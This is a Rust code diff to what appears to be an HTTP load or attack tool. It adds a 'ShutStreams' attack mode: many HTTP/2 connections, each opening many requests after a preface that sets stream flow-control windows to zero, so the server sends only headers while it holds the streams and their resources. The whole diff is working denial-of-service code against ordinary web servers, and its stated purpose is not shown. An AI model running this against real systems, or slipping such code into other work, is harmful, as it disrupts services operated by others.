@@ -36,6 +36,8 @@ const FRAME: usize = 12_000;
 pub(crate) enum Attack {
     /// So many HTTP/2 connections with so many streams of a path each, of which nothing is read.
     UnreadStreams(usize, usize, String),
+    /// The same of a client that lets nothing but heads be sent.
+    ShutStreams(usize, usize, String),
     /// The same by one HTTP/1.1 connection each.
     Unread(usize, String),
     /// So many answers, read up to so many bytes.
@@ -114,7 +116,12 @@ impl Target {
         match &self.attack {
             Attack::UnreadStreams(connections, streams, path) => {
                 for _ in 0..*connections {
-                    held.push(self.streams(*streams, path)?);
+                    held.push(self.streams(*streams, path, &preface())?);
+                }
+            }
+            Attack::ShutStreams(connections, streams, path) => {
+                for _ in 0..*connections {
+                    held.push(self.streams(*streams, path, &shut())?);
                 }
             }
             Attack::Unread(count, path) => {
@@ -196,10 +203,10 @@ impl Target {
         Ok(stream)
     }
 
-    /// A connection's preface with windows as large as can be, and the streams' heads.
-    fn streams(&self, count: usize, path: &str) -> Result<Box<dyn Stream>> {
+    /// A connection's preface, and the streams' heads.
+    fn streams(&self, count: usize, path: &str, preface: &[u8]) -> Result<Box<dyn Stream>> {
         let mut stream = self.tls("h2")?;
-        let mut out = preface();
+        let mut out = preface.to_vec();
         let head = self.head(GET, path);
         for number in 0..count {
             // END_STREAM and END_HEADERS.
@@ -287,6 +294,13 @@ fn preface() -> Vec<u8> {
     // SETTINGS_INITIAL_WINDOW_SIZE, and as much for the connection (RFC 9113, 6.5.2, 6.9).
     frame(&mut out, (4, 0), 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
     frame(&mut out, (8, 0), 0, &(0x7fff_ffff_u32 - 65_535).to_be_bytes());
+    out
+}
+
+/// The connection's preface with streams that have no windows.
+fn shut() -> Vec<u8> {
+    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    frame(&mut out, (4, 0), 0, &[0, 4, 0, 0, 0, 0]);
     out
 }
 
